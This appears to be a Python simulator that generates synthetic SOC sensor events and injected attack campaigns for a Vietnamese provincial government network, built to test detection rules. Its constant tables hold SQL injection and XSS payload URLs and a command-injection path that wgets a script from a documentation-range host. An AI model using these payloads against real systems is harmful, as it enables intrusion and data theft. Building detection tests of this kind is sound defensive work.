"""Deterministic simulator of the Hue SOC's security sensors (stream `cyber`), with attack campaigns.

Background (docs/domain.md §4: ~18,750 blocked attempts a day, 90,000 virus spreads and 2,713 malware
mails in 10 months of 2023): a steady trickle of single blocked probes from many documentation-range
addresses (firewall `connection` events and IDS alerts), officials logging in to the public-service
portal from their office and to the VPN from home (mostly `success`, a typo now and then), web
requests to the provincial portal, the public-service portal and the Hue-S API (200/304, some 404,
single requests blocked by the WAF, an occasional 503) with a day/night profile, malware found on
workstations, malware and phishing mail blocked, and planned web-root deployments inside the
integrity monitor's change window. Sensors come from `config/reference/cyber.yaml`; every address is
in a documentation range (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32): the
province's servers stand in as 198.51.100.0/24, users and citizens as 192.0.2.0/24, internet
scanners and attackers as 203.0.113.0/24 and 2001:db8::/32.

Incidents (each a campaign from one source, caught by the shipped rules of `rules/cyber.yaml`):
`brute_force`, `brute_force_success`, `port_scan`, `sweep`, `sqli`, `sqli_success`, `xss`, `dos`,
`long_url`, `defacement`, `new_src_login` (see `INCIDENT_RULES`). Background and incidents draw
from separate generators derived from the seed, so adding an incident never changes the background.
`new_src_login` needs a long run: cyber.login.new_src_ip learns each user's addresses for 7 days
from the first login, so it can only be injected from `logins_learned_at` on (the first working
morning after `start` plus 7 days); use a small `volume` for such runs.

Background against the shipped rules: no alert in 14 simulated days at full volume (two seeds) and
in 10 days at low volume past the login-learning week. Officials' addresses are deliberately
stable (agency NAT, one home address, both learned in the first days); real dynamic home
addresses would raise some cyber.login.new_src_ip alerts, which this background leaves out.

>>> from ioc.timeutil import parse_ts
>>> sim = CyberSimulator(seed=7, start=parse_ts("2025-11-12T08:00:00+07:00"))
>>> incident = sim.add_incident("brute_force", at=sim.start + 600, duration=90)
>>> incident.rules, incident.keys
(('cyber.auth.bruteforce',), {'src_ip': '203.0.113.200'})
>>> events = list(sim.events(sim.start + 3600))
>>> all(a["ts"] <= b["ts"] for a, b in zip(events, events[1:]))  # RFC 3339 UTC, always with ms
True
>>> events[0]["ts"], events[0]["id"]
('2025-11-12T01:00:00.310Z', 'soc-waf-01-00000000')
>>> sum(e.get("src_ip") == "203.0.113.200" for e in events) >= 8
True
"""

from __future__ import annotations

import heapq
import ipaddress
import math
import re
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import yaml

from ioc.timeutil import format_ts
from sensors_sim.base import Incident

__all__ = [
    "DEFAULT_REFERENCE_PATH",
    "DOC_NETWORKS",
    "INCIDENT_RULES",
    "LOGIN_LEARNING_S",
    "CyberSimulator",
    "Sensor",
    "load_sensors",
]

DEFAULT_REFERENCE_PATH = Path(__file__).resolve().parent.parent / "config" / "reference" / "cyber.yaml"

# RFC 5737 / RFC 3849 documentation ranges: the only addresses this simulator ever emits.
DOC_NETWORKS: tuple[ipaddress.IPv4Network | ipaddress.IPv6Network, ...] = (
    ipaddress.ip_network("192.0.2.0/24"),
    ipaddress.ip_network("198.51.100.0/24"),
    ipaddress.ip_network("203.0.113.0/24"),
    ipaddress.ip_network("2001:db8::/32"),
)

# Incident kind -> ids of the shipped rules expected to catch it (the first is the main one).
INCIDENT_RULES: dict[str, tuple[str, ...]] = {
    "brute_force": ("cyber.auth.bruteforce",),
    "brute_force_success": ("cyber.auth.bruteforce_success", "cyber.auth.bruteforce"),
    "port_scan": ("cyber.net.portscan",),
    "sweep": ("cyber.net.sweep",),
    "sqli": ("cyber.web.sqli_burst",),
    "sqli_success": ("cyber.web.sqli_success", "cyber.web.sqli_burst"),
    "xss": ("cyber.web.xss_burst",),
    "dos": ("cyber.web.dos_503",),
    "long_url": ("cyber.web.long_url",),
    "defacement": ("cyber.web.defacement",),
    "new_src_login": ("cyber.login.new_src_ip",),
}

# `learning: 7d` of cyber.login.new_src_ip: a user's new address alerts only this long after
# the user's first successful login (per user, from the first event).
LOGIN_LEARNING_S = 7 * 86400.0

_LOCAL_OFFSET_S = 7 * 3600.0  # Huế time, UTC+7 all year
_DAY_S = 86400.0
_BLOCK_S = 3600.0
_WEEKDAYS = ("mon", "tue", "wed", "thu", "fri", "sat", "sun")
_SENSOR_TYPES = ("firewall", "waf", "ids", "mail_gateway", "edr", "integrity_monitor")
_SENSOR_KEYS = ("source_id", "sensor_type", "sensor_site", "protects", "web_root", "change_window")
_WINDOW_RE = re.compile(r"^\s*(\w{3})\s+(\d{1,2}):(\d{2})\s*-\s*(\w{3})\s+(\d{1,2}):(\d{2})\s*$")


@dataclass(frozen=True)
class Sensor:
    """One SOC sensor of the reference file."""

    source_id: str
    sensor_type: str
    sensor_site: str
    protects: str
    web_root: bool
    change_window: str | None


def load_sensors(path: str | Path = DEFAULT_REFERENCE_PATH) -> list[Sensor]:
    """Sensors of the cyber reference file (`key: source_id`, `items: [...]`); ValueError if malformed.

    >>> [s.source_id for s in load_sensors() if s.web_root]
    ['soc-fim-01']
    """
    path = Path(path)
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    if not isinstance(data, dict) or data.get("key") != "source_id" or not isinstance(data.get("items"), list):
        raise ValueError(f"{path.name}: expected a mapping with `key: source_id` and `items: [...]`")
    sensors: list[Sensor] = []
    for number, item in enumerate(data["items"], 1):
        where = f"{path.name}: item {number}"
        if not isinstance(item, dict) or set(item) != set(_SENSOR_KEYS):
            raise ValueError(f"{where}: needs exactly the fields {', '.join(_SENSOR_KEYS)}")
        if not isinstance(item["source_id"], str) or not item["source_id"].strip():
            raise ValueError(f"{where}: source_id {item['source_id']!r} is not a non-empty text")
        if item["sensor_type"] not in _SENSOR_TYPES:
            raise ValueError(f"{where}: sensor_type {item['sensor_type']!r} (allowed: {', '.join(_SENSOR_TYPES)})")
        if not isinstance(item["web_root"], bool):
            raise ValueError(f"{where}: web_root {item['web_root']!r} is not true/false")
        window = item["change_window"]
        if window is not None:
            _parse_window(window, where)
        sensors.append(Sensor(item["source_id"].strip(), item["sensor_type"], str(item["sensor_site"]),
                              str(item["protects"]), item["web_root"], window))
    if len({s.source_id for s in sensors}) != len(sensors):
        raise ValueError(f"{path.name}: duplicate source_id")
    return sensors


def _parse_window(text: object, where: str = "change_window") -> tuple[float, float]:
    """A weekly window "Sat 22:00-Sun 02:00" as (start, end) seconds since Monday 00:00 local."""
    match = _WINDOW_RE.match(text) if isinstance(text, str) else None
    if match is None or match.group(1).lower() not in _WEEKDAYS or match.group(4).lower() not in _WEEKDAYS:
        raise ValueError(f"{where}: change_window {text!r} is not like 'Sat 22:00-Sun 02:00'")
    d1, h1, m1, d2, h2, m2 = match.groups()
    begin = _WEEKDAYS.index(d1.lower()) * _DAY_S + int(h1) * 3600.0 + int(m1) * 60.0
    end = _WEEKDAYS.index(d2.lower()) * _DAY_S + int(h2) * 3600.0 + int(m2) * 60.0
    return begin, end


def _week_seconds(t: float) -> float:
    """Seconds since Monday 00:00 Huế time (1970-01-01 was a Thursday)."""
    return (t + _LOCAL_OFFSET_S + 3 * _DAY_S) % (7 * _DAY_S)


def _in_window(t: float, window: tuple[float, float]) -> bool:
    begin, end = window
    s = _week_seconds(t)
    return begin <= s < end if begin <= end else (s >= begin or s < end)


def _is_doc_address(text: str) -> bool:
    try:
        address = ipaddress.ip_address(text)
    except ValueError:
        return False
    return any(address.version == net.version and address in net for net in DOC_NETWORKS)


# --- Simulated infrastructure (demo data, unverified: the reference file lists sensors only) ---

@dataclass(frozen=True)
class _Site:
    host: str
    dst_ip: str
    waf: int  # index into the simulator's WAF sensors (modulo their number)
    per_day: float  # requests on an average weekday
    paths: tuple[str, ...]
    weights: tuple[float, ...]
    post_paths: tuple[str, ...]


_SITES: tuple[_Site, ...] = (
    _Site("hue.gov.vn", "198.51.100.10", 0, 48_000.0,
          ("/", "/tin-tuc", "/tin-tuc/thoi-su", "/tin-tuc/kinh-te", "/thong-bao", "/van-ban-chi-dao-dieu-hanh",
           "/lich-cong-tac", "/gioi-thieu/tong-quan", "/tim-kiem?q=du+lich+hue", "/tim-kiem?q=lich+nghi+tet",
           "/tim-kiem?q=quy+hoach+do+thi", "/tin-tuc/thoi-su/hue-khac-phuc-hau-qua-mua-lu.html",
           "/Portals/0/logo.png", "/css/site.css", "/js/main.js", "/favicon.ico", "/lien-he"),
          (9, 6, 4, 3, 3, 3, 2, 1, 1, 1, 1, 3, 8, 7, 7, 4, 1),
          ("/lien-he", "/gop-y")),
    _Site("dichvucong.hue.gov.vn", "198.51.100.30", 1, 20_000.0,
          ("/", "/thu-tuc-hanh-chinh", "/dich-vu-cong/nop-ho-so", "/tra-cuu-ho-so?ma=H56.27-251112-0001",
           "/tra-cuu-ho-so?ma=H56.22-251110-0457", "/thanh-toan-truc-tuyen", "/huong-dan", "/assets/app.js",
           "/assets/app.css"),
          (6, 5, 4, 3, 2, 2, 1, 6, 6),
          ("/dich-vu-cong/nop-ho-so", "/thanh-toan-truc-tuyen")),
    _Site("api.hue-s.vn", "198.51.100.31", 1, 16_000.0,
          ("/v2/phan-anh", "/v2/thong-bao", "/v2/thoi-tiet", "/v2/ban-do/camera", "/v2/su-kien",
           "/v2/phan-anh/trang-thai?id=2511120123"),
          (4, 4, 3, 2, 2, 3),
          ("/v2/phan-anh",)),
)
_MISSING_PATHS = ("/wp-login.php", "/.env", "/phpmyadmin/", "/old/index.asp", "/admin/config.php",
                  "/tin-tuc/bai-viet-da-xoa.html", "/robots.txt.bak", "/xmlrpc.php")
# Single scanner requests the WAF blocks (403); none is SQLi or XSS, so no burst rule counts them.
_BLOCKED = (
    ("/cgi-bin/../../etc/passwd", "930100 Path Traversal Attack (/../)"),
    ("/.git/config", "930130 Restricted File Access Attempt"),
    ("/index.php?s=/index/think/app/invokefunction", "933160 PHP Injection Attack: High-Risk PHP Function Call"),
    ("/shell?cd+/tmp;wget+http://203.0.113.9/x.sh", "932100 Remote Command Execution: Unix Command Injection"),
    ("/actuator/gateway/routes", "913100 Found User-Agent associated with security scanner"),
)
_UAS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6"
    " Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Mobile"
    " Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) coc_coc_browser/124.0"
    " Chrome/118.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Hue-S/3.4.1 (Android 13; Xiaomi 2201117TG)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
)
_UA_WEIGHTS = (30, 22, 20, 12, 5, 8, 3)
_SCANNER_UAS = ("Mozilla/5.0 zgrab/0.x", "curl/8.4.0", "python-requests/2.31.0", "Go-http-client/1.1")
# Web statuses of ordinary requests: 200, 304, 301, 404, 500, 503 (shares, unverified).
_STATUS = (200, 304, 301, 404, 500, 503)
_STATUS_P = (0.855, 0.06, 0.02, 0.06, 0.0035, 0.0015)
# Hourly traffic profile (Huế time) of the government sites, mean 1 (unverified).
_WEB_PROFILE = (0.25, 0.18, 0.14, 0.12, 0.12, 0.2, 0.45, 0.9, 1.5, 1.75, 1.7, 1.5, 1.1, 1.3, 1.6, 1.65,
                1.45, 1.15, 0.95, 1.05, 1.15, 1.0, 0.75, 0.45)
_WEEKEND_WEB = 0.55
# Ports probed by internet background scanning, with weights (telnet/SSH/RDP/SMB dominate).
_PROBE_PORTS = (23, 22, 3389, 445, 80, 443, 8080, 1433, 3306, 5900, 6379, 9200, 2375, 5060, 25, 21, 8443, 7547)
_PROBE_WEIGHTS = (18, 16, 12, 10, 6, 5, 6, 4, 4, 3, 3, 2, 2, 3, 2, 2, 1, 1)
_IDS_SIGNATURES = (
    "ET SCAN Suspicious inbound to mySQL port 3306",
    "ET SCAN Potential SSH Scan",
    "ET SCAN NMAP -sS window 1024",
    "ET DROP Dshield Block Listed Source",
    "ET CINS Active Threat Intelligence Poor Reputation IP",
    "ET SCAN Potential VNC Scan 5900-5920",
    "ET SCAN MS Terminal Server Traffic on Non-standard Port",
)
_EDR_SIGNATURES = ("W32.Sality.PE", "VBS.Runauto.worm", "Trojan:Win32/Wacatac.B!ml", "W32.Virut.CF",
                   "HackTool:Win32/AutoKMS", "Worm:Win32/Conficker.B")
_MAIL_MALWARE = ("Malware: Trojan.Win32.Emotet (tệp .doc đính kèm)", "Malware: HTML/Phish.Agent (tệp .htm)",
                 "Malware: Win32/Formbook (tệp .rar)", "Malware: JS/Agent.Downloader (tệp .zip)")
_MAIL_PHISHING = ("Phishing: giả mạo thông báo thuế", "Phishing: giả mạo cổng dịch vụ công",
                  "Phishing: giả mạo ngân hàng")
_AGENCIES = ("so-tttt", "so-tnmt", "so-yte", "so-gddt", "so-tc", "so-khdt", "so-xd", "so-gtvt", "so-nnptnt",
             "so-vhtt", "so-nv", "so-tp", "so-ldtbxh", "so-ct", "van-phong-ubnd", "ubnd-tp-hue",
             "ubnd-phong-dien", "ubnd-quang-dien", "ubnd-phu-vang", "ubnd-huong-tra", "ubnd-huong-thuy",
             "ubnd-phu-loc", "ubnd-nam-dong", "ubnd-a-luoi")
_FAMILY = ("nguyen", "tran", "le", "pham", "hoang", "phan", "vu", "dang", "bui", "do", "ho", "ngo", "duong",
           "ton-that", "truong")
_MIDDLE = ("van", "thi", "duc", "minh", "ngoc", "quang", "thanh", "huu", "dinh", "xuan")
_GIVEN = ("an", "binh", "cuong", "dung", "giang", "ha", "hai", "hanh", "hoa", "hung", "huong", "khanh", "lan",
          "linh", "long", "mai", "nam", "nga", "phuong", "quan", "son", "tam", "thao", "trang", "tuan", "vy")
# Attack payloads. Every SQLi URL matches cyber.web.sqli_burst's patterns, every XSS URL the
# xss_burst ones; the WAF names some of them (`signature`).
_SQLI_URLS = (
    "/tin-tuc?id=1%27%20or%20%271%27%3d%271",
    "/tin-tuc?id=1+union+all+select+null,null,version()--",
    "/tim-kiem?q=1%27%20and%20sleep(5)%23",
    "/van-ban?id=1;waitfor%20delay%20%270:0:5%27--",
    "/tin-tuc?id=-1+union+select+table_name,2+from+information_schema.tables",
    "/dang-nhap?user=admin%27--",
    "/tin-tuc?id=1/**/UNION/**/SELECT/**/1,2,3",
    "/tra-cuu?ma=1%27%20OR%201=1--",
    "/tin-tuc?id=1%20AND%20BENCHMARK(5000000,MD5(1))",
    "/lich-cong-tac?tuan=1%27;select%20pg_sleep(5)--",
)
_SQLI_SUCCESS_URL = "/tra-cuu?ma=h56%27%20and%20sleep(5)--%20"  # lowercase: sqli_success has fold: false
_SQLI_SIGNATURE = "942100 SQL Injection Attack Detected via libinjection"
_XSS_URLS = (
    "/tim-kiem?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/tim-kiem?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
    "/tin-tuc?ref=javascript:alert(1)",
    "/tim-kiem?q=%3Csvg/onload=prompt(1)%3E",
    "/gop-y?ten=%22%3E%3Ciframe%20src=javascript:alert(1)%3E",
    "/tim-kiem?q=%22%3E%3Cbody%20onload%3Dconfirm(1)%3E",
    "/tim-kiem?q=%3Cdetails%20open%20ontoggle=alert(1)%3E",
    "/lich-su?q=%3Cscript%20src=//203.0.113.66/x.js%3E%3C/script%3E",
)
_XSS_SIGNATURE = "941100 XSS Attack Detected via libinjection"
_BRUTE_USERS = ("admin", "root", "administrator", "test", "oracle", "ubuntu", "user", "support", "guest", "postgres")
_DEFACE_FILES = ("index.html", "uploads/shell.php", "assets/hacked.jpg", "index.php", "uploads/.x.php",
                 "tin-tuc/index.html")
_DEPLOY_FILES = ("index.html", "assets/app.js", "assets/app.css", "tin-tuc/index.html", "Portals/0/logo.png",
                 "assets/vendor.js", "sitemap.xml")


@dataclass(frozen=True)
class _Service:
    host: str
    dst_ip: str
    dst_port: int


_SSH = _Service("sv-cong-tt", "198.51.100.22", 22)
_VPN = _Service("vpn-so-tttt", "198.51.100.40", 443)
_PORTAL = _Service("dichvucong.hue.gov.vn", "198.51.100.30", 443)
_WEB_ROOT = "/var/www/hue.gov.vn/"
_WEB_SERVER = "sv-web-01"


@dataclass(frozen=True)
class _User:
    name: str
    office_ip: str
    home_ip: str | None


@dataclass(frozen=True)
class _Spec:
    incident: Incident
    index: int
    params: dict[str, Any]


class CyberSimulator:
    """Hue SOC sensors: background traffic plus injected attack campaigns.

    Knobs (defaults from docs/domain.md §4 where it gives a figure, otherwise unverified):
    `probes_per_day` blocked attempts (18,750), `volume` scales the web, probe, EDR and mail
    background (logins are per user and not scaled; use a small `volume` for week-long runs),
    `users` officials with accounts, `edr_per_day` malware detections (~300: 90,000 in 10 months),
    `mail_malware_per_day` / `mail_phishing_per_day` (2,713 and 355 in 10 months), `deploy_p` the
    chance of a planned web-root deployment in each weekly change window.

    >>> sim = CyberSimulator(seed=1, start=1762909200.0, volume=0.1)
    >>> sim.incident_kinds[:3]
    ('brute_force', 'brute_force_success', 'port_scan')
    """

    stream: str = "cyber"
    incident_kinds: tuple[str, ...] = tuple(INCIDENT_RULES)

    def __init__(
        self,
        *,
        seed: int = 0,
        start: float,
        reference_path: str | Path = DEFAULT_REFERENCE_PATH,
        volume: float = 1.0,
        probes_per_day: float = 18_750.0,
        users: int = 240,
        edr_per_day: float = 300.0,
        mail_malware_per_day: float = 8.9,
        mail_phishing_per_day: float = 1.2,
        deploy_p: float = 0.7,
    ) -> None:
        for name, value in (("volume", volume), ("probes_per_day", probes_per_day), ("edr_per_day", edr_per_day),
                            ("mail_malware_per_day", mail_malware_per_day),
                            ("mail_phishing_per_day", mail_phishing_per_day)):
            if not (isinstance(value, (int, float)) and math.isfinite(value) and value >= 0):
                raise ValueError(f"{name} ({value!r}) must be a finite number >= 0")
        if not 0.0 <= deploy_p <= 1.0:
            raise ValueError(f"deploy_p ({deploy_p!r}) must be within 0..1")
        if not 1 <= users <= 2000:
            raise ValueError(f"users ({users!r}) must be within 1..2000")
        if not (isinstance(start, (int, float)) and math.isfinite(start) and start >= 0):
            raise ValueError(f"start ({start!r}) must be epoch seconds")
        self.seed = seed
        self.start = float(start)
        self.volume = float(volume)
        self.probes_per_day = float(probes_per_day)
        self.edr_per_day = float(edr_per_day)
        self.mail_malware_per_day = float(mail_malware_per_day)
        self.mail_phishing_per_day = float(mail_phishing_per_day)
        self.deploy_p = float(deploy_p)
        self.sensors = load_sensors(reference_path)
        by_type: dict[str, list[Sensor]] = {}
        for sensor in self.sensors:
            by_type.setdefault(sensor.sensor_type, []).append(sensor)
        for needed in ("firewall", "waf"):
            if needed not in by_type:
                raise ValueError(f"{reference_path}: needs at least one {needed} sensor")
        self._firewalls = [s.source_id for s in by_type["firewall"]]
        self._wafs = [s.source_id for s in by_type["waf"]]
        self._ids = [s.source_id for s in by_type.get("ids", [])]
        self._mail = [s.source_id for s in by_type.get("mail_gateway", [])]
        self._edr = [s.source_id for s in by_type.get("edr", [])]
        fims = [s for s in by_type.get("integrity_monitor", []) if s.web_root]
        self._fim: Sensor | None = fims[0] if fims else None
        self._window: tuple[float, float] | None = (
            _parse_window(self._fim.change_window) if self._fim and self._fim.change_window else None
        )
        self._users = self._make_users(users)
        self._user_names = {u.name for u in self._users}
        self._specs: list[_Spec] = []
        # Every user's first successful login happens by the end of the first working morning.
        self.logins_learned_at = self._first_morning_end() + LOGIN_LEARNING_S

    # --- reference-derived setup -----------------------------------------------------------

    def _make_users(self, count: int) -> list[_User]:
        rng = np.random.default_rng([self.seed, 7])
        users: list[_User] = []
        seen: set[str] = set()
        homes = [f"192.0.2.{i}" for i in range(100, 255)]
        for i in range(count):
            name = ".".join((_FAMILY[int(rng.integers(len(_FAMILY)))], _MIDDLE[int(rng.integers(len(_MIDDLE)))],
                             _GIVEN[int(rng.integers(len(_GIVEN)))]))
            base, n = name, 2
            while name in seen:
                name, n = f"{base}{n}", n + 1
            seen.add(name)
            office = f"192.0.2.{10 + i % len(_AGENCIES)}"  # the agency's NAT address
            home: str | None = None
            if rng.random() < 0.45:
                home = (homes[int(rng.integers(len(homes)))] if rng.random() < 0.7
                        else f"2001:db8:4:{int(rng.integers(1, 0xFFFF)):x}::{int(rng.integers(1, 0xFFFF)):x}")
            users.append(_User(name, office, home))
        return users

    def _first_morning_end(self) -> float:
        day = math.floor((self.start + _LOCAL_OFFSET_S) / _DAY_S)
        while True:
            local0 = day * _DAY_S - _LOCAL_OFFSET_S
            if (day + 3) % 7 < 5 and local0 + 7.25 * 3600 >= self.start:
                return local0 + 8.75 * 3600
            day += 1

    @property
    def users(self) -> tuple[str, ...]:
        """Account names of the simulated officials."""
        return tuple(u.name for u in self._users)

    # --- incidents ---------------------------------------------------------------------------

    def add_incident(self, kind: str, *, at: float, duration: float, **params: Any) -> Incident:
        """Schedule an attack campaign starting at event time `at` and lasting `duration` seconds.

        Common parameter: `src_ip` (the attacker, a documentation-range address; default
        203.0.113.200 + n for the n-th incident). Kind parameters: `interval_s` (seconds between
        attempts: brute_force, brute_force_success, sqli, sqli_success, xss), `user`
        (brute_force, brute_force_success, new_src_login), `rate` (probes per second: port_scan,
        sweep; requests per second: dos), `dst_ip` (port_scan), `port` (sweep), `host` (sqli,
        sqli_success, xss, dos, long_url), `length` and `count` (long_url), `files` (defacement),
        `target` ("ssh" | "vpn" | "portal": brute_force, brute_force_success), `logins`
        (new_src_login). `at` is rounded to the millisecond (the events' resolution).
        Raises ValueError for an unknown kind or parameters the rules could not catch.
        """
        if kind not in INCIDENT_RULES:
            raise ValueError(f"unknown incident kind {kind!r} (known: {', '.join(INCIDENT_RULES)})")
        if not (isinstance(at, (int, float)) and math.isfinite(at) and at >= self.start):
            raise ValueError(f"at ({at!r}) must be event time >= start ({self.start})")
        if not (isinstance(duration, (int, float)) and math.isfinite(duration) and duration >= 0):
            raise ValueError(f"duration ({duration!r}) must be >= 0 seconds")
        index = len(self._specs) + 1
        allowed = _PARAMS[kind] | {"src_ip"}
        unknown = sorted(set(params) - allowed)
        if unknown:
            raise ValueError(
                f"{kind}: unknown parameter(s) {', '.join(unknown)} (allowed: {', '.join(sorted(allowed))})"
            )
        p = dict(params)
        src = p.setdefault("src_ip", f"203.0.113.{199 + index}" if index <= 55 else f"2001:db8:bad::{index:x}")
        if not isinstance(src, str) or not _is_doc_address(src):
            raise ValueError(f"src_ip {src!r} must be an address in a documentation range (192.0.2.0/24, "
                             "198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32)")
        at, duration = round(float(at), 3), float(duration)
        keys, start, end = self._plan(kind, at, duration, p)
        incident = Incident(
            id=f"cyber-{kind}-{index}", stream=self.stream, kind=kind, keys=keys, start=start, end=end,
            rules=INCIDENT_RULES[kind], params=dict(p),
        )
        self._specs.append(_Spec(incident, index, p))
        return incident

    @property
    def incidents(self) -> tuple[Incident, ...]:
        return tuple(s.incident for s in self._specs)

    def _plan(self, kind: str, at: float, duration: float, p: dict[str, Any]) -> tuple[dict[str, Any], float, float]:
        """Validate and complete the parameters; (alert keys, first event time, last event time)."""
        src = p["src_ip"]
        if kind in ("brute_force", "brute_force_success", "sqli", "sqli_success", "xss"):
            # Attempts on a grid `interval_s` apart, interior ones jittered by +-20%: any `needed`
            # consecutive ones span at most (needed - 1 + 0.4) intervals, which must stay < 120 s.
            needed = 10 if kind == "xss" else 8
            interval = _number(p.setdefault("interval_s", 6.0 if kind == "xss" else 5.0), "interval_s", 0.2)
            success = kind == "brute_force_success"
            count = int(duration // interval) + (0 if success else 1)
            if count < needed + (1 if kind == "sqli_success" else 0):
                raise ValueError(f"{kind}: duration {duration} s with interval_s {interval} gives {count} "
                                 f"attempts; at least {needed} are needed")
            gap = duration - (count - 1) * interval if success else 0.0  # last failure -> success
            if (needed - 1 + 0.4) * interval + gap >= 118.0:
                raise ValueError(f"{kind}: interval_s {interval} too long: {needed} attempts"
                                 f"{' and the success' if success else ''} must fit in 120 s")
            if kind.startswith("brute_force"):
                target = p.setdefault("target", "ssh" if kind == "brute_force" else "portal")
                if target not in ("ssh", "vpn", "portal"):
                    raise ValueError(f"{kind}: target {target!r} (allowed: ssh, vpn, portal)")
                if success:
                    user = p.setdefault("user", self._users[(7 * len(self._specs)) % len(self._users)].name)
                    if not isinstance(user, str) or not user:
                        raise ValueError(f"{kind}: user {user!r} must be an account name")
            else:
                self._site(p, "hue.gov.vn")
            return {"src_ip": src}, at, at + duration if success else at + (count - 1) * interval
        if kind == "port_scan":
            rate = _number(p.setdefault("rate", 4.0), "rate", 1.0)
            dst = p.setdefault("dst_ip", _SSH.dst_ip)
            if not isinstance(dst, str) or not _is_doc_address(dst):
                raise ValueError(f"port_scan: dst_ip {dst!r} must be a documentation-range address")
            count = min(int(duration * rate) + 1, 65535)
            if count < 50:
                raise ValueError(
                    f"port_scan: {count} probes; needs >= 50 distinct ports (duration >= {49 / rate:.0f} s)"
                )
            return {"src_ip": src, "dst_ip": dst}, at, at + (count - 1) / rate
        if kind == "sweep":
            rate = _number(p.setdefault("rate", 1.0), "rate", 0.2)
            port = p.setdefault("port", 445)
            if not isinstance(port, int) or not 0 < port < 65536:
                raise ValueError(f"sweep: port {port!r} is not a port number")
            count = int(duration * rate) + 1
            if count < 100:
                raise ValueError(f"sweep: {count} hosts; needs >= 100 within 9 min (duration >= {99 / rate:.0f} s)")
            return {"src_ip": src}, at, at + (count - 1) / rate
        if kind == "dos":
            rate = _number(p.setdefault("rate", 8.0), "rate", 0.5)
            site = self._site(p, "dichvucong.hue.gov.vn")
            count = int(duration * rate) + 1
            if min(duration, 110.0) * rate * 0.75 < 16:
                raise ValueError("dos: too few requests for >= 14 HTTP 503 within 120 s (raise rate or duration)")
            return {"dst_ip": site.dst_ip}, at, at + (count - 1) / rate
        if kind == "long_url":
            length = p.setdefault("length", 8192)
            if not isinstance(length, int) or not 7900 < length <= 100_000:
                raise ValueError(f"long_url: length {length!r} must be an int in 7901..100000 (rule: > 7,900)")
            count = p.setdefault("count", 3)
            if not isinstance(count, int) or count < 1:
                raise ValueError(f"long_url: count {count!r} must be >= 1")
            self._site(p, "hue.gov.vn")
            return {"src_ip": src}, at, at + (duration if count > 1 else 0.0)
        if kind == "defacement":
            if self._fim is None:
                raise ValueError("defacement: the reference data has no integrity monitor with web_root: true")
            files = p.setdefault("files", 4)
            if not isinstance(files, int) or files < 1:
                raise ValueError(f"defacement: files {files!r} must be >= 1")
            end = at + (duration if files > 1 else 0.0)
            if self._window is not None:
                for i in range(files):
                    t = at + (end - at) * i / max(1, files - 1)
                    if _in_window(t, self._window):
                        raise ValueError(f"defacement: {format_ts(t)} is inside the change window "
                                         f"({self._fim.change_window}, Huế time): not an incident")
            return {"source_id": self._fim.source_id}, at, end
        # new_src_login
        user = p.setdefault("user", self._users[len(self._specs) % len(self._users)].name)
        if user not in self._user_names:
            raise ValueError(f"new_src_login: user {user!r} is not one of the simulated officials")
        if at < self.logins_learned_at:
            raise ValueError(
                f"new_src_login: at {format_ts(at)} is before {format_ts(self.logins_learned_at)}: the rule "
                "cyber.login.new_src_ip learns each user's addresses for 7 days from the first login"
            )
        own = next(u for u in self._users if u.name == user)
        if src in (own.office_ip, own.home_ip):
            raise ValueError(f"new_src_login: {src} is one of {user}'s usual addresses")
        logins = p.setdefault("logins", 1)
        if not isinstance(logins, int) or logins < 1:
            raise ValueError(f"new_src_login: logins {logins!r} must be >= 1")
        return {"user": user}, at, at + (duration if logins > 1 else 0.0)

    def _site(self, p: dict[str, Any], default: str) -> _Site:
        host = p.setdefault("host", default)
        for site in _SITES:
            if site.host == host:
                return site
        raise ValueError(f"host {host!r} is not a simulated site ({', '.join(s.host for s in _SITES)})")

    # --- events ------------------------------------------------------------------------------

    def events(self, end: float) -> Iterator[dict[str, Any]]:
        """Every event with start <= ts < end, in ts order, with ids `<source_id>-<n>`."""
        counters: dict[str, int] = {}
        stamp = _Stamp()
        streams = [self._background(end)]
        for spec in self._specs:
            rows = [r for r in self._incident_rows(spec) if r[0] < end]
            if rows:
                streams.append(iter(rows))
        # Stable for equal times: background first, then incidents in the order they were added.
        for t, _, event in heapq.merge(*streams, key=_row_ts):
            sid = event["source_id"]
            n = counters.get(sid, 0)
            counters[sid] = n + 1
            event["ts"] = stamp(t)
            event["id"] = f"{sid}-{n:08d}"
            yield event

    def _background(self, end: float) -> Iterator[tuple[float, int, dict[str, Any]]]:
        run = _Background(self)
        block = math.floor(self.start / _BLOCK_S) * _BLOCK_S
        while block < end:
            rows = run.block(block)
            rows.sort(key=_row_time)
            for row in rows:
                if row[0] >= end:
                    return
                if row[0] >= self.start:
                    yield row
            block += _BLOCK_S

    def _incident_rows(self, spec: _Spec) -> list[tuple[float, int, dict[str, Any]]]:
        rng = np.random.default_rng([self.seed, 1, spec.index])
        inc, p = spec.incident, spec.params
        order = 1_000_000 * spec.index  # ties with the background: incident events come after it
        events = _GENERATORS[inc.kind](self, inc, p, rng)
        return [(t, order + i, e) for i, (t, e) in enumerate(events)]


class _Stamp:
    """RFC 3339 UTC text with milliseconds always written ("...T02:10:00.000Z"), so that event
    times sort as text too; the date-time part is cached per second."""

    def __init__(self) -> None:
        self.second = -1
        self.prefix = ""

    def __call__(self, t: float) -> str:
        ms = round(t * 1000.0)
        second, frac = divmod(ms, 1000)
        if second != self.second:
            self.second = second
            self.prefix = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(second))
        return f"{self.prefix}.{frac:03d}Z"


